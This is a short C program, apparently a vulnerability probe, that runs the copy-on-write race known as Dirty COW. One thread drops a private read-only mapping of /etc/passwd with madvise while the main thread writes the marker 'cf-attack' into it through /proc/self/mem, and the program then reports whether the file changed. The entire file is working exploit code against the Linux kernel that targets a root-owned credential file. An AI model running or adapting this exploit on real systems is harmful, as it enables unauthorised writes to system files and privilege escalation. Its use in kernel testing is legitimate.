// AC
// Races the copy of a private page against its being dropped, to write into a file it may only read.
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>
static char *page;
static volatile bool over;
static void *drop(void *) { while (!over) madvise(page, 4096, MADV_DONTNEED); return nullptr; }
int main() {
    int file = open("/etc/passwd", O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    char before[64] = "", after[64] = "";
    pread(file, before, 60, 0);
    page = (char *)mmap(nullptr, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    bool shared = mmap(nullptr, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) != MAP_FAILED;
    pthread_t thread;
    pthread_create(&thread, nullptr, drop, nullptr);
    while (clock() < CLOCKS_PER_SEC / 20) if (memory >= 0) pwrite(memory, "cf-attack", 9, (long)page);
    over = true;
    pthread_join(thread, nullptr);
    pread(file, after, 60, 0);
    puts(shared || strcmp(before, after) || !before[0] ? "written" : "7");
}
